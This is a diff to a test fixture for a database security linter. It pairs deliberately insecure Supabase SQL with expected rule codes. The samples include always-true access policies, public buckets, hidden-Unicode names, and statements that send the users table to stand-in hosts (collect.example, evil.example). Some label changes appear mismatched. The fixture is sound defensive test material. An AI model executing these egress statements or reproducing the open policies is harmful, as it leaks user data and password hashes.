@@ -30,7 +30,7 @@ create policy "Enable all" on public.todos for all to authenticated using (true)
 -- === true in other words: POLICY_ALWAYS_TRUE
 create policy u on public.todos for update to authenticated using (1 = 1);
 -- === a negated false: POLICY_ALWAYS_TRUE
-create policy d on public.todos for delete to authenticated using (not (false or null));
+create policy d on public.todos for delete to authenticated using (not (false or 1 > 2));
 -- === true or mine: POLICY_ALWAYS_TRUE
 create policy u on public.todos for update to authenticated using (user_id = (select auth.uid()) or true);
 -- === true by a column that is never null: POLICY_ALWAYS_TRUE
@@ -44,8 +44,6 @@ create policy i on public.comments for insert to public with check (body <> '');
 create policy own on public.todos using (auth.uid() = user_id);
 -- === meant for the service: POLICY_SERVICE_ROLE_OPEN
 create policy "Service role can do all" on public.todos for all using (true);
--- === update without check that moves rows: POLICY_MISSING_WITH_CHECK
-create policy u on public.docs for update to authenticated using ((select auth.uid()) = owner_id);
 -- === check wider than using: POLICY_WITH_CHECK_WIDER
 create policy u on public.docs for update to authenticated using ((select auth.uid()) = owner_id) with check (true);
 -- === the inner column catches the outer: POLICY_COLUMN_CAPTURE
@@ -171,8 +169,8 @@ insert into storage.buckets (id, name, public) values ('invoices', 'invoices', t
 -- === bucket opened later: STORAGE_BUCKET_PUBLIC
 update storage.buckets set public = true where id = 'invoices';
 -- === files of all: STORAGE_POLICY_BROAD
-create policy "read" on storage.objects for select to authenticated using (bucket_id = 'documents');
--- === uploads by all: STORAGE_POLICY_BROAD
+create policy "own" on storage.objects for delete to authenticated using (bucket_id = 'documents');
+-- === uploads by strangers: POLICY_ANON_WRITE
 create policy "write" on storage.objects for insert to anon with check (bucket_id = 'avatars');
 -- === published without row security: REALTIME_NO_RLS
 create table public.chat (id int primary key);
@@ -197,7 +195,7 @@ drop event trigger if exists pgrst_ddl_watch;
 select net.http_post(url := 'https://collect.example/x', body := (select jsonb_agg(u) from public.users u));
 -- === data leaves by trigger: DATA_EGRESS
 create trigger hook after insert on public.users for each row execute function supabase_functions.http_request('https://collect.example', 'POST', '{}', '{}', '1000');
--- === data leaves by file: DATA_EGRESS
+-- === data leaves by file: COPY_PROGRAM
 copy (select * from public.users) to '/tmp/users.csv' with csv;
 -- === data leaves by subscription: DATA_EGRESS
 create subscription s connection 'host=evil.example dbname=x' publication p;
@@ -205,8 +203,8 @@ create subscription s connection 'host=evil.example dbname=x' publication p;
 alter table public.docs rename column "admin" to "‮nimda";
 -- === zero width: HIDDEN_UNICODE
 create table private."us​ers" (id int primary key);
--- === homoglyph in a policy: HIDDEN_UNICODE
-create policy p on public.docs for select to authenticated using (owner = 'а‍');
+-- === joined letters in a name: HIDDEN_UNICODE
+create policy p on public.docs for select to authenticated using ("ow‍ner" = (select auth.uid()));
 -- === a partition with its own door: PARTITION_CHILD_NO_RLS
 create table public.ev (id bigint, at timestamptz, primary key (id, at)) partition by range (at);
 alter table public.ev enable row level security;
@@ -236,7 +234,7 @@ create policy m on public.team_members for select to authenticated using (
 create policy o on public.docs for select to authenticated using (auth.uid() = owner_id);
 -- === a hard coded admin: POLICY_HARDCODED_ID
 create policy o on public.docs for all to authenticated using (auth.uid() = '8d0fd2b3-9ca7-4d9e-a95f-9e13dded323e');
--- === by e-mail domain: POLICY_AUTH_EMAIL
+-- === by e-mail domain: POLICY_PATTERN_MATCH
 create policy o on public.docs for all to authenticated using (auth.jwt() ->> 'email' like '%@example.com');
 -- === session identity: POLICY_SESSION_IDENTITY
 create policy o on public.docs for all to authenticated using (owner = current_setting('app.user_id')::uuid);
@@ -246,7 +244,7 @@ create or replace view "public"."Everyone" as table public.profiles;
 alter role authenticated set search_path = evil, public;
 -- === search_path for the database: SEARCH_PATH_CHANGED
 alter database postgres set search_path to "$user", evil, public;
--- === a secret column readable by all: SENSITIVE_COLUMN_EXPOSED
+-- === a secret column readable by all: POLICY_ALWAYS_TRUE
 create table public.members (id uuid primary key, email text, password_hash text, owner uuid);
 alter table public.members enable row level security;
 create policy r on public.members for select to anon using (true);
